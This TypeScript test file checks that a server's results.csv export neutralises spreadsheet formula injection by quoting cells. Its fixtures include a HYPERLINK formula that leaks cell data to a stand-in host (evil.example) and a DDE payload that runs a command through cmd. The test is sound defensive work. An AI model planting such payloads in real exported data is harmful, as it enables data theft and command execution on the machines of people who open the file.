import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { useTestServer } from '../../../../test/serverHarness';

/** Issue 11, finding 8: results.csv carried record values that a spreadsheet runs as formulas. */
describe('results.csv of a batch whose records look like formulas', () => {
  const ctx = useTestServer();

  it('puts a single quote before every cell that would start a formula', async () => {
    const token = await ctx.server.tokenFor('ingest');
    const submitted = await fetch(`${ctx.server.url}/api/v1/records`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        source: 'formulas',
        records: [
          {
            external_id: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            given_name: 'Ana',
            family_name: 'Silva',
          },
          { external_id: '+1-2', given_name: '@SUM(1+1)', family_name: 'Costa' },
          { external_id: '-3', given_name: '\t=1', family_name: 'Souza' },
          { external_id: '\r=2', full_name: '=cmd|"/c calc"!A0' },
          { external_id: 'plain-1', given_name: 'Bruno', family_name: 'Lima' },
        ],
      }),
    });
    expect(submitted.status).toBe(202);
    const { batchId } = (await submitted.json()) as { batchId: string };
    const res = await fetch(`${ctx.server.url}/api/v1/batches/${batchId}/results.csv`, {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(res.status).toBe(200);
    const rows = parse<Record<string, string>>(await res.text(), { columns: true });
    const ids = rows.map((r) => r.external_id).sort();
    expect(ids).toEqual(
      [
        `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
        "'+1-2",
        "'-3",
        "'=2", // the external id is stored trimmed
        'plain-1',
      ].sort(),
    );
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const names = rows.map((r) => r.name);
    expect(names).toContain("'@SUM(1+1) Costa");
    expect(names).toContain('Bruno Lima');
  });
});
